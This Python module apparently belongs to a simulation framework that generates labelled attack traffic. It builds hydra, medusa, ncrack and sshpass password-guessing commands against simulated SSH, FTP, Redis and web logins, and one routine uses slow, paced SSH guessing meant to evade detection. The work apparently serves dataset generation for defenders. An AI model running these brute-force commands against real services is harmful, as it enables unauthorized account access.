"""Guessing passwords: hydra, medusa and ncrack against logins of several kinds."""
from .. import words
from ..benign import SSH
from .job import attack


def _lists(job):
    """Files of users and of guesses; once in a while the right password is among them."""
    rng = job.rng
    users = rng.sample(list(job.services.users), 1) + rng.choice(([], [words.word(rng), "admin"]))
    tries = words.guesses(rng, rng.randint(15, 80))
    if rng.random() < 0.3:
        tries.append(job.services.users[users[0]])
    return job.file("\n".join(users) + "\n"), job.file("\n".join(tries) + "\n")


def _tool(job, victim, service, port):
    users, tries = _lists(job)
    threads = job.rng.choice((1, 4, 8))
    which = job.rng.choice(("hydra", "hydra", "medusa", "ncrack"))
    if which == "hydra":
        return ["hydra", "-I", "-L", users, "-P", tries, "-t", threads, *job.rng.choice(([], ["-W", "1"])), "-s",
                port, victim.v4, service]
    if which == "medusa":
        return ["medusa", "-h", victim.v4, "-U", users, "-P", tries, "-t", threads, "-n", port, "-M", service]
    return ["ncrack", "-U", users, "-P", tries, "-T", job.rng.choice((2, 3, 4)), f"{service}://{victim.v4}:{port}"]


def _guess(job, service, wanted=None):
    victim = job.victim()
    attacker = job.attacker(victim)
    port = victim.services[wanted or service]
    with job.claim(attacker, victim, port=port):
        job.run(attacker, _tool(job, victim, service, port), 45)


@attack("brute_force", "hydra", "medusa", "ncrack", wants="ssh")
def ssh_guessing(job):
    _guess(job, "ssh")


@attack("brute_force", "hydra", "medusa", "ncrack", wants="ftp")
def ftp_guessing(job):
    _guess(job, "ftp")


@attack("brute_force", "hydra", wants="redis")
def redis_guessing(job):
    victim = job.victim()
    attacker = job.attacker(victim)
    _, tries = _lists(job)
    port = victim.services["redis"]
    with job.claim(attacker, victim, port=port):
        job.run(attacker, ["hydra", "-I", "-f", "-P", tries, "-t", "4", "-s", port, victim.v4, "redis"], 20)


@attack("brute_force", "hydra", wants="web")
def http_basic_guessing(job):
    _http(job, lambda tls: (["https-get" if tls else "http-get", "/members/"]))


@attack("brute_force", "hydra", wants="web")
def http_form_guessing(job):
    _http(job, lambda tls: (["https-post-form" if tls else "http-post-form",
                             "/app/login:user=^USER^&pass=^PASS^:F=incorrect"]))


def _http(job, how):
    victim = job.victim()
    attacker = job.attacker(victim)
    users, tries = _lists(job)
    tls = job.rng.random() < 0.3
    port = victim.services["tls" if tls else "web"]
    with job.claim(attacker, victim, port=port):
        job.run(attacker, ["hydra", "-I", "-L", users, "-P", tries, "-t", job.rng.choice((1, 4, 8)), "-s", port,
                           victim.v4, *how(tls)], 35)


@attack("brute_force", "sshpass", "ssh", wants="ssh")
def slow_ssh_guessing(job):
    """One try, a pause, another: under the radar, with an ordinary client."""
    victim = job.victim()
    attacker = job.attacker(victim)
    port = victim.services["ssh"]
    with job.claim(attacker, victim, port=port):
        for secret in words.guesses(job.rng, job.rng.randint(8, 30)):
            job.run(attacker, ["sshpass", "-p", secret, "ssh", *SSH, "-o", "PubkeyAuthentication=no", "-o",
                               "NumberOfPasswordPrompts=1",
                               "-p", port, f"{job.rng.choice(list(job.services.users))}@{victim.v4}", "true"], 8)
            if not job.sleep(job.rng.uniform(0.1, 1.5)):
                break
